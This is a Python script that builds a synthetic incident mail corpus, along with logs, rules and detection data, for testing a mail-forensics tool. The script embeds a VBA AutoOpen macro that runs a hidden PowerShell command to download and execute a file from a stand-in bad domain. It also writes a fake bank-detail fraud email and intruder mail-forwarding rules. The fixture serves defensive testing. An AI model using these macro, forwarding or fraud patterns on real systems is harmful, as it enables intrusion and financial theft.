#!/usr/bin/python3
"""
Writes a real-looking mail corpus of one incident window into DIR (for riposte mail
scan and mail trace, their tests and their tour):

  stores/maildir/       the affected mailbox (Maildir++: INBOX, .Sent, .Newsletter)
  stores/archive.mbox   an mboxrd export of older sent mail
  stores/export/*.eml   messages saved one per file
  logs/maillog          Postfix syslog lines for every message of the window
  logs/messagetrace.csv the same as a Microsoft 365 message trace (BOM, US dates, UTC)
  addressbook.vcf       the mailbox's address book (vCard 3.0)
  rules/dovecot.sieve   the mailbox's Sieve script (one intruder's redirect)
  rules/inbox-rules.csv an Exchange Get-InboxRule export (one intruder's forward)
  iocs.txt              the known-bad domain, as riposte mail --ioc reads it
  clamav/               a two-signature ClamAV database: EICAR's MD5 (.hdb), its body (.ndb)
  riposte.conf          the site profile (domains, own IBAN, the clients)
  MANIFEST              what is expected: one line per message, rule and contact

The story: on 2026-11-19 an intruder in empfang@praxis-muster.example sent a macro
document (a real .docm made with zip, whose word/vbaProject.bin carries a VBA project
with AutoOpen/Shell and the EICAR test string) to three clients (the third one in Bcc:
only the logs know it), a link to a known-bad domain to one more, and "new bank
details" with a foreign IBAN to two; set a Sieve redirect and an Exchange forward.
Ordinary mail with real PDF, DOCX and JPEG attachments (made by PIL and zip) went to
ten more clients; the address book holds twenty others. Deterministic: same bytes on
every run (fixed clock, seeded names, SOURCE_DATE_EPOCH for zip).
Usage: make-mail-corpus.py DIR
"""
import calendar, email.policy, email.utils, hashlib, io, os, random, struct, subprocess, sys, time, uuid
from email.message import EmailMessage

OUT = sys.argv[1]
R = random.Random(19)
random.seed(19)   # the MIME boundaries of the email package
SITE = "praxis-muster.example"
ME = "empfang@" + SITE
OWN_IBAN = "CH93 0076 2011 6238 5295 7"
FOREIGN_IBAN = "LT12 1000 0111 0100 1000"
SUPPLIER_IBAN = "DE89 3704 0044 0532 0130 00"
BAD_DOMAIN = "befund-portal.example"
os.environ["SOURCE_DATE_EPOCH"] = "1795132800"
POL = email.policy.default.clone(linesep="\n", max_line_length=76)
# the EICAR test string, assembled so that this file itself is not a test file
EICAR = (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*")
assert len(EICAR) == 68

def T(s):  # "2026-11-19 14:45:31" UTC -> epoch
    return calendar.timegm(time.strptime(s, "%Y-%m-%d %H:%M:%S"))

def mkdir(*p):
    d = os.path.join(OUT, *p)
    os.makedirs(d, exist_ok=True)
    return d

def write(path, data, mtime=None):
    with open(path, "wb") as f:
        f.write(data)
    if mtime:
        os.utime(path, (mtime, mtime))

# ---------------------------------------------------------------- people
clients = [  # address, organisation, language
    ("auftrag@labor.example", "Labor Beispiel AG", "de"),
    ("secretariat@cabinet.example", "Cabinet Exemple SA", "fr"),
    ("info@physio-alpen.example", "Physio Alpen GmbH", "de"),
    ("sekretariat@zahnarzt-see.example", "Zahnarztpraxis am See", "de"),
    ("buchhaltung@spital-nord.example", "Spital Nord", "de"),
    ("kasse@apotheke-mitte.example", "Apotheke Mitte", "de"),
]
ordinary = [
    ("anna.keller@radiologie-zh.example", "Radiologie Zürich", "de"),
    ("contact@ortho-lausanne.example", "Orthopédie Lausanne", "fr"),
    ("praxis@hausarzt-bern.example", "Hausarztpraxis Bern", "de"),
    ("office@derma-basel.example", "Dermatologie Basel", "de"),
    ("accueil@pediatrie-geneve.example", "Pédiatrie Genève", "fr"),
    ("team@logopaedie-winterthur.example", "Logopädie Winterthur", "de"),
    ("info@augen-luzern.example", "Augenklinik Luzern", "de"),
    ("reception@dental-lugano.example", "Studio dentistico Lugano", "it"),
    ("admin@kardio-stgallen.example", "Kardiologie St. Gallen", "de"),
    ("mail@ergo-thun.example", "Ergotherapie Thun", "de"),
]
supplier = ("rechnung@medbedarf.example", "Medbedarf Handels AG")
newsletter = ("news@fachverband.example", "Fachverband Praxisassistenz")
first = ["Lea", "Noah", "Mia", "Luca", "Sara", "Jonas", "Elena", "David", "Nina", "Marco",
         "Julia", "Simon", "Laura", "Tim", "Chiara", "Nico", "Alina", "Fabio", "Lena", "Jan"]
last = ["Meier", "Müller", "Schmid", "Keller", "Weber", "Huber", "Brunner", "Baumann", "Frei",
        "Gerber", "Moser", "Zürcher", "Fischer", "Graf", "Roth", "Bühler", "Kunz", "Suter",
        "Berger", "Wyss"]
book = []
for i in range(20):
    dom = ["gmail-mail.example", "bluewin-mail.example", "gesundheit-%d.example" % i][i % 3]
    book.append(("%s.%s@%s" % (first[i].lower(), last[i].lower().replace("ü", "ue"), dom),
                 "%s %s" % (first[i], last[i])))

# ---------------------------------------------------------------- files
def pdf_bytes(title):
    from PIL import Image, ImageDraw
    img = Image.new("RGB", (595, 842), "white")
    d = ImageDraw.Draw(img)
    d.text((60, 60), title, fill="black")
    for k in range(30):
        d.text((60, 110 + k * 22), "Befund %02d: Wert %d, Referenz %d-%d" % (k, R.randint(1, 99),
               R.randint(1, 40), R.randint(41, 99)), fill="black")
    b = io.BytesIO()

    when = time.gmtime(1795132800)
    img.save(b, "PDF", resolution=72.0, creationDate=when, modDate=when)
    return b.getvalue()

def jpeg_bytes():
    from PIL import Image, ImageDraw
    img = Image.new("RGB", (640, 480), (R.randint(0, 255), R.randint(0, 255), R.randint(0, 255)))
    d = ImageDraw.Draw(img)
    for _ in range(40):
        x, y = R.randint(0, 600), R.randint(0, 440)
        d.ellipse((x, y, x + R.randint(10, 80), y + R.randint(10, 80)),
                  fill=(R.randint(0, 255), R.randint(0, 255), R.randint(0, 255)))
    b = io.BytesIO()
    img.save(b, "JPEG", quality=85)
    return b.getvalue()

CT_DOCX = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>%s<Override PartName="/word/document.xml" ContentType="%s"/><Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/></Types>"""
RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/></Relationships>"""
DOC = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>"""
CORE = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>%s</dc:title><dc:creator>Praxis Dr. med. Muster</dc:creator></cp:coreProperties>"""

def ole_file(streams):
    """A compound file (MS-CFB v3) holding streams {path: bytes}, every stream padded to
    4096 bytes or more so that none goes to the mini stream."""
    S = 512
    ENDC, FREE, FATS = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    names = sorted(streams)
    data, sect_of, chain = b"", {}, []
    for n in names:
        s = streams[n]
        s = s + b"\0" * (max(4096, (len(s) + S - 1) // S * S) - len(s))
        first_s = len(data) // S
        k = len(s) // S
        sect_of[n] = (first_s, len(streams[n]) if len(streams[n]) >= 4096 else 4096)
        chain += [first_s + j + 1 for j in range(k - 1)] + [ENDC]
        data += s
    # directory: root, storages, streams
    storages = sorted({n.split("/")[0] for n in names if "/" in n})
    entries = [("Root Entry", 5, None)] + [(s, 1, None) for s in storages] + \
              [(n.split("/")[-1], 2, n) for n in names]
    idx = {e[0] if e[1] != 2 else e[2]: i for i, e in enumerate(entries)}
    children = {0: [], **{idx[s]: [] for s in storages}}
    for s in storages:
        children[0].append(idx[s])
    for n in names:
        parent = idx[n.split("/")[0]] if "/" in n else 0
        children[parent].append(idx[n])
    ndir = (len(entries) * 128 + S - 1) // S
    dir_first = len(data) // S
    chain += [dir_first + j + 1 for j in range(ndir - 1)] + [ENDC]
    total = len(data) // S + ndir
    nfat = 1
    while (total + nfat) > nfat * 128:
        nfat += 1
    fat_first = total
    chain += [FATS] * nfat
    fat = chain + [FREE] * (nfat * 128 - len(chain))
    dirb = b""
    right, child = {}, {}
    for p, kids in children.items():
        kids = sorted(kids, key=lambda i: (len(entries[i][0]), entries[i][0].upper()))
        if kids:
            child[p] = kids[0]
            for a, b in zip(kids, kids[1:]):
                right[a] = b
    for i, (name, typ, path) in enumerate(entries):
        nm = name.encode("utf-16-le") + b"\0\0"
        start, size = (sect_of[path] if typ == 2 else (ENDC, 0))
        dirb += nm + b"\0" * (64 - len(nm)) + struct.pack("<HBB", len(nm), typ, 1) + \
            struct.pack("<III", FREE, right.get(i, FREE), child.get(i, FREE)) + b"\0" * 16 + \
            b"\0" * 4 + b"\0" * 16 + struct.pack("<II", start, size) + b"\0" * 4
    dirb += b"\0" * (ndir * S - len(dirb))
    difat = [fat_first + j for j in range(nfat)] + [FREE] * (109 - nfat)
    hdr = bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + \
        b"\0" * 6 + struct.pack("<IIIIIIIII", 0, nfat, dir_first, 0, 4096, ENDC, 0, ENDC, 0) + \
        struct.pack("<109I", *difat)
    return hdr + data + dirb + struct.pack("<%dI" % len(fat), *fat)

def vba_project():
    module = (b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
              b'    Dim s: Set s = CreateObject("WScript.Shell")\r\n'
              b'    s.Run "powershell -w hidden -c iwr https://' + BAD_DOMAIN.encode() +
              b'/a.exe -o $env:TEMP\\a.exe; & $env:TEMP\\a.exe"\r\n    Shell "cmd /c echo ' +
              EICAR + b'"\r\nEnd Sub\r\n' + EICAR + b"\r\n")
    return ole_file({
        "PROJECT": b'ID="{8A3F1B2C-0000-4000-8000-000000000001}"\r\nDocument=ThisDocument/&H00000000\r\nName="Project"\r\n',
        "PROJECTwm": b"ThisDocument\0T\0h\0i\0s\0D\0o\0c\0u\0m\0e\0n\0t\0\0\0\0\0",
        "VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        "VBA/dir": b"\x01\x00\x00\x00\x04\x00\x00\x00" + b"AutoOpen ThisDocument",
        "VBA/ThisDocument": module,
    })

def ooxml(path, title, text, macro=False):
    d = path + ".d"
    for sub in ("_rels", "word/_rels", "docProps"):
        os.makedirs(os.path.join(d, sub), exist_ok=True)
    body = "".join("<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % l for l in text)
    if macro:
        ct = CT_DOCX % ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
                        "application/vnd.ms-word.document.macroEnabled.main+xml")
        drels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                 '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
        open(os.path.join(d, "word/_rels/document.xml.rels"), "w").write(drels)
        open(os.path.join(d, "word/vbaProject.bin"), "wb").write(vba_project())
    else:
        ct = CT_DOCX % ("", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    open(os.path.join(d, "[Content_Types].xml"), "w").write(ct)
    open(os.path.join(d, "_rels/.rels"), "w").write(RELS)
    open(os.path.join(d, "word/document.xml"), "w").write(DOC % body)
    open(os.path.join(d, "docProps/core.xml"), "w").write(CORE % title)
    for root, _, files in os.walk(d):
        for f in files:
            os.utime(os.path.join(root, f), (1795132800, 1795132800))
    members = ["[Content_Types].xml", "_rels/.rels", "docProps/core.xml", "word/document.xml"]
    if macro:
        members += ["word/_rels/document.xml.rels", "word/vbaProject.bin"]
    if os.path.exists(path):
        os.unlink(path)
    subprocess.run(["zip", "-q", "-X", "-D", os.path.abspath(path)] + members, cwd=d, check=True)
    data = open(path, "rb").read()
    subprocess.run(["rm", "-rf", d, path], check=True)
    return data

# ---------------------------------------------------------------- messages
manifest, trace = [], []   # trace: (time, from, [rcpts], subject, msgid, size, bcc)
seq = [0]

def msgid(t):
    seq[0] += 1
    return "%s.%04d.%s@%s" % (time.strftime("%Y%m%d%H%M%S", time.gmtime(t)), 4711 + seq[0],
                              R.choice(["mx", "owa", "web"]), SITE)

def message(t, frm, to, subject, text, cc=(), bcc=(), html=None, atts=(), reply_to=None, mid=None):
    m = EmailMessage(policy=POL)
    m["From"] = frm
    m["To"] = ", ".join(to)
    if cc:
        m["Cc"] = ", ".join(cc)
    if bcc:
        m["Bcc"] = ", ".join(bcc)
    if reply_to:
        m["Reply-To"] = reply_to
    m["Subject"] = subject
    m["Date"] = email.utils.formatdate(t, localtime=False)
    mid = mid or msgid(t)
    m["Message-ID"] = "<%s>" % mid
    m["MIME-Version"] = "1.0"
    m["X-Mailer"] = "Microsoft Outlook 16.0"
    m.set_content(text)
    if html:
        m.add_alternative(html, subtype="html")
    for name, ctype, data in atts:
        maintype, sub = ctype.split("/")
        m.add_attachment(data, maintype=maintype, subtype=sub, filename=name)
    return mid, m.as_bytes(policy=POL)

def addr_only(a):
    return email.utils.parseaddr(a)[1]

def maildir_put(folder, t, data, flags="S"):
    d = mkdir("stores", "maildir", *( [folder] if folder else [] ), "cur")
    mkdir("stores", "maildir", *([folder] if folder else []), "new")
    mkdir("stores", "maildir", *([folder] if folder else []), "tmp")
    seq[0] += 1
    name = "%d.M%dP%d.mail.%s,S=%d:2,%s" % (t, 100000 + seq[0], 2000 + seq[0], SITE, len(data), flags)
    write(os.path.join(d, name), data, t)
    return os.path.join("stores", "maildir", *([folder] if folder else []), "cur", name)

mbox_msgs, eml_msgs = [], []
def sent(store, t, to, subject, text, cls, cc=(), bcc=(), html=None, atts=(), logbcc=()):
    mid, data = message(t, "Praxis Dr. med. Muster <%s>" % ME, to, subject, text, cc, bcc, html, atts)
    if store == "maildir":
        where = maildir_put(".Sent", t, data)
    elif store == "mbox":
        mbox_msgs.append((t, ME, data))
        where = "stores/archive.mbox"
    else:
        name = "%s.eml" % subject.replace(" ", "_").replace("/", "-")[:40]
        eml_msgs.append((name, t, data))
        where = "stores/export/" + name
    manifest.append("message\t%s\t%s\t%s" % (mid, cls, where))
    trace.append((t, ME, [addr_only(a) for a in list(to) + list(cc) + list(bcc) + list(logbcc)],
                  subject, mid, len(data), "out"))
    return mid, data

def received(folder, t, frm, subject, text, html=None, atts=(), cls="clean"):
    mid = "%s@%s" % (uuid.UUID(int=R.getrandbits(128)), addr_only(frm).split("@")[1])
    mid, data = message(t, frm, [ME], subject, text, html=html, atts=atts, mid=mid)
    where = maildir_put(folder, t, data)
    manifest.append("message\t%s\t%s\t%s" % (mid, cls, where))
    trace.append((t, addr_only(frm), [ME], subject, mid, len(data), "in"))
    return mid

# the intrusion: the macro document to three clients, the third in Bcc (the logs only)
docm = ooxml(os.path.join(OUT, "Rechnung_2026-114.docm"), "Rechnung 2026-114",
             ["Rechnung 2026-114", "Bitte aktivieren Sie die Bearbeitung, um die Rechnung anzuzeigen."],
             macro=True)
DOCM = "application/vnd.ms-word.document.macroEnabled.12"
sent("maildir", T("2026-11-19 14:45:31"), [clients[0][0]], "Rechnung 2026-114",
     "Guten Tag\n\nIm Anhang die Rechnung 2026-114. Bitte Bearbeitung aktivieren.\n\nFreundliche Grüsse\nPraxis Dr. med. Muster\n",
     "malicious", atts=[("Rechnung_2026-114.docm", DOCM, docm)], logbcc=[clients[2][0]])
sent("eml", T("2026-11-19 14:52:07"), [clients[1][0]], "Facture 2026-114",
     "Bonjour,\n\nVeuillez trouver la facture 2026-114 en annexe (activer la modification).\n\nCordialement\nCabinet Dr Muster\n",
     "malicious", atts=[("Facture_2026-114.docm", DOCM, docm)])
# the link to the known-bad domain, its text showing our own portal
sent("mbox", T("2026-11-19 15:03:44"), [clients[3][0]], "Ihr Befund ist bereit",
     "Guten Tag\n\nIhr Befund ist im Portal bereit: https://portal.%s/befund\n" % SITE, "malicious",
     html='<html><body><p>Guten Tag</p><p>Ihr Befund ist bereit: <a href="https://%s/d/8812?u=sekretariat">https://portal.%s/befund</a></p></body></html>' % (BAD_DOMAIN, SITE))
# new bank details, foreign IBAN, to two
sent("eml", T("2026-11-19 15:20:10"), [clients[4][0]], "Neue Bankverbindung ab sofort",
     "Sehr geehrte Damen und Herren\n\nBitte beachten Sie unsere neue Bankverbindung ab sofort:\n"
     "IBAN: %s\nBIC: REVOLT21\nBank: UAB Revolut\n\nBitte überweisen Sie offene Rechnungen nur noch auf dieses Konto.\n\n"
     "Freundliche Grüsse\nPraxis Dr. med. Muster\n" % FOREIGN_IBAN, "bec", cc=[clients[5][0]])
# ordinary mail with real attachments to ten more
kinds = ["pdf", "docx", "jpeg"]
for i, (a, org, lang) in enumerate(ordinary):
    t = T("2026-11-%02d %02d:%02d:%02d" % (16 + i % 4, 8 + i, 10 + i * 3, 7 * i % 60))
    k = kinds[i % 3]
    if k == "pdf":
        att = ("Laborbefund_%02d.pdf" % i, "application/pdf", pdf_bytes("Laborbefund %02d" % i))
    elif k == "docx":
        att = ("Arztbrief_%02d.docx" % i, "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
               ooxml(os.path.join(OUT, "a%d.docx" % i), "Arztbrief %02d" % i, ["Arztbrief", "Diagnose: unauffällig", "Therapie: keine"]))
    else:
        att = ("Foto_%02d.jpg" % i, "image/jpeg", jpeg_bytes())
    store = ["maildir", "mbox", "eml"][i % 3]
    sent(store, t, [a], "Unterlagen %s" % org, "Guten Tag\n\nIm Anhang die Unterlagen.\nSiehe auch https://www.%s/kontakt\n\nFreundliche Grüsse\n" % SITE,
         "clean", atts=[att])
# mail received in the window: a client's reply, the supplier's real change, a newsletter
received("", T("2026-11-19 16:10:00"), "Labor Beispiel AG <%s>" % clients[0][0], "AW: Rechnung 2026-114",
         "Guten Tag\n\nDie Rechnung lässt sich nicht öffnen?\n\nGruss\nLabor Beispiel\n")
received("", T("2026-11-17 09:30:00"), "%s <%s>" % (supplier[1], supplier[0]), "Neue Bankverbindung",
         "Sehr geehrte Kundin, sehr geehrter Kunde\n\nUnsere Bankverbindung hat sich geändert. Neue IBAN: %s\n\nMedbedarf\n" % SUPPLIER_IBAN)
received(".Newsletter", T("2026-11-18 07:00:00"), "%s <%s>" % (newsletter[1], newsletter[0]), "Newsletter November",
         "Neuigkeiten: https://www.fachverband.example/news/2026-11\n",
         html='<html><body><h1>Newsletter</h1><p><a href="https://www.fachverband.example/news/2026-11">www.fachverband.example</a></p></body></html>')

# ---------------------------------------------------------------- stores
mkdir("stores", "export")
for name, t, data in eml_msgs:
    write(os.path.join(OUT, "stores", "export", name), data, t)
with open(os.path.join(OUT, "stores", "archive.mbox"), "wb") as f:
    for t, frm, data in sorted(mbox_msgs):
        f.write(b"From %s %s\n" % (frm.encode(), time.strftime("%a %b %d %H:%M:%S %Y", time.gmtime(t)).encode()))
        for line in data.split(b"\n"):
            # mboxrd: ">From " and "From " lines in the body gain one '>'
            s = line.lstrip(b">")
            f.write((b">" + line if s.startswith(b"From ") else line) + b"\n")
        f.write(b"\n")
os.utime(os.path.join(OUT, "stores", "archive.mbox"), (T("2026-11-20 18:00:00"),) * 2)

# ---------------------------------------------------------------- logs
def qid():
    return "%010X" % R.getrandbits(40)

lines = []
for t, frm, rcpts, subject, mid, size, way in sorted(trace):
    q, p = qid(), R.randint(2000, 9000)
    st = lambda dt: time.strftime("%b %e %H:%M:%S", time.gmtime(t + dt))
    if way == "out":
        lines.append("%s mail postfix/submission/smtpd[%d]: %s: client=unknown[%s], sasl_method=LOGIN, sasl_username=%s" %
                     (st(0), p, q, "198.51.100.77" if t >= T("2026-11-19 14:00:00") and t < T("2026-11-19 16:00:00") else "192.0.2.10", frm))
    else:
        lines.append("%s mail postfix/smtpd[%d]: %s: client=mx.%s[203.0.113.%d]" % (st(0), p, q, frm.split("@")[1], R.randint(2, 250)))
    lines.append("%s mail postfix/cleanup[%d]: %s: message-id=<%s>" % (st(0), p + 1, q, mid))
    lines.append("%s mail postfix/qmgr[1210]: %s: from=<%s>, size=%d, nrcpt=%d (queue active)" % (st(0), q, frm, size, len(rcpts)))
    for r in rcpts:
        if way == "out":
            lines.append("%s mail postfix/smtp[%d]: %s: to=<%s>, relay=mx.%s[192.0.2.%d]:25, delay=1.2, delays=0.1/0.01/0.6/0.5, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as %s)" %
                         (st(2), p + 2, q, r, r.split("@")[1], R.randint(2, 250), qid()))
        else:
            lines.append("%s mail postfix/lmtp[%d]: %s: to=<%s>, relay=mail.%s[private/dovecot-lmtp], delay=0.1, delays=0.05/0/0/0.05, dsn=2.0.0, status=sent (250 2.0.0 <%s> Saved)" %
                         (st(1), p + 2, q, r, SITE, r))
    lines.append("%s mail postfix/qmgr[1210]: %s: removed" % (st(3), q))
mkdir("logs")
write(os.path.join(OUT, "logs", "maillog"), ("\n".join(lines) + "\n").encode())
def us_date(t):  # "11/19/2026 2:45:31 PM", as the admin centre exports it (UTC)
    g = time.gmtime(t)
    return "%d/%d/%d %d:%02d:%02d %s" % (g.tm_mon, g.tm_mday, g.tm_year, (g.tm_hour + 11) % 12 + 1,
                                         g.tm_min, g.tm_sec, "PM" if g.tm_hour >= 12 else "AM")

rows = ['"Received","SenderAddress","RecipientAddress","Subject","Status","ToIP","FromIP","Size","MessageId","MessageTraceId"']
for t, frm, rcpts, subject, mid, size, way in sorted(trace, reverse=True):
    for r in rcpts:
        rows.append('"%s","%s","%s","%s","Delivered","%s","%s","%d","<%s>","%s"' % (
            us_date(t),
            frm, r, subject.replace('"', '""'), "" if way == "in" else "192.0.2.%d" % R.randint(2, 250),
            "198.51.100.77" if way == "out" and T("2026-11-19 14:00:00") <= t < T("2026-11-19 16:00:00") else "40.92.0.%d" % R.randint(2, 250),
            size, mid, uuid.UUID(int=R.getrandbits(128))))
write(os.path.join(OUT, "logs", "messagetrace.csv"), ("\ufeff" + "\r\n".join(rows) + "\r\n").encode("utf-8"))

# ---------------------------------------------------------------- address book, rules, site
vc = []
for a, n in book:
    fn, ln = n.split(" ", 1)
    vc.append("BEGIN:VCARD\r\nVERSION:3.0\r\nN:%s;%s;;;\r\nFN:%s\r\nEMAIL;TYPE=INTERNET:%s\r\nEND:VCARD\r\n" % (ln, fn, n, a))
write(os.path.join(OUT, "addressbook.vcf"), "".join(vc).encode())
mkdir("rules")
write(os.path.join(OUT, "rules", "dovecot.sieve"), (
    'require ["fileinto", "copy"];\n'
    '# rule:[Newsletter]\n'
    'if header :contains "list-id" "fachverband" {\n    fileinto "Newsletter";\n    stop;\n}\n'
    '# rule:[Sync]\n'
    'if anyof (header :contains "subject" ["Rechnung", "Zahlung", "Bank"], address :domain "from" "spital-nord.example") {\n'
    '    redirect :copy "praxis.muster.backup@mail-sync.example";\n}\n').encode())
write(os.path.join(OUT, "rules", "inbox-rules.csv"), ("\ufeff#TYPE Selected.Microsoft.Exchange.Management.RecipientTasks.InboxRule\r\n"
    '"MailboxOwnerId","Name","Enabled","Priority","From","SubjectContainsWords","ForwardTo","ForwardAsAttachmentTo","RedirectTo","DeleteMessage","MoveToFolder"\r\n'
    '"%s","Newsletter","True","1","news@fachverband.example","","","","","False","Newsletter"\r\n'
    '"%s",".","True","2","","Rechnung Zahlung IBAN","""Buchhaltung"" [SMTP:buchhaltung.praxis@outlook-mail.example]","","","False",""\r\n' % (ME, ME)).encode("utf-8"))
manifest.append("rule\trules/dovecot.sieve\tredirect\tpraxis.muster.backup@mail-sync.example")
manifest.append("rule\trules/inbox-rules.csv\tforward\tbuchhaltung.praxis@outlook-mail.example")
write(os.path.join(OUT, "iocs.txt"), ("# the domain of the link in the mail of 2026-11-19\ndomain:%s\n" % BAD_DOMAIN).encode())
mkdir("clamav")
write(os.path.join(OUT, "clamav", "test.hdb"), ("%s:68:Eicar-Test-Signature\n" % hashlib.md5(EICAR).hexdigest()).encode())
write(os.path.join(OUT, "clamav", "test.ndb"), ("Eicar-Test-Body:0:*:%s\n" % EICAR.hex()).encode())
conf = ["[site]", "name = Praxis Dr. med. Muster", "country = CH", "language = de",
        "timezone = Europe/Zurich", "domains = " + SITE, "iban = " + OWN_IBAN, ""]
for a, org, lang in clients + ordinary:
    conf += ["[client]", "name = " + org, "contact = " + a, "language = " + lang, ""]
write(os.path.join(OUT, "riposte.conf"), "\n".join(conf).encode())
# contacts: who must be told, and how
for i, (a, org, lang) in enumerate(clients):
    manifest.append("contact\t%s\tinfected\t%s" % (a, a.split("@")[1]))
for a, org, lang in ordinary:
    manifest.append("contact\t%s\texposed\t%s" % (a, a.split("@")[1]))
for a in (supplier[0], newsletter[0]):
    manifest.append("contact\t%s\tprecautionary\t%s" % (a, a.split("@")[1]))
for a, n in book:
    manifest.append("contact\t%s\tprecautionary\t%s" % (a, a.split("@")[1]))
write(os.path.join(OUT, "MANIFEST"), ("# kind\tkey\tclass\twhere\n" + "\n".join(manifest) + "\n").encode())
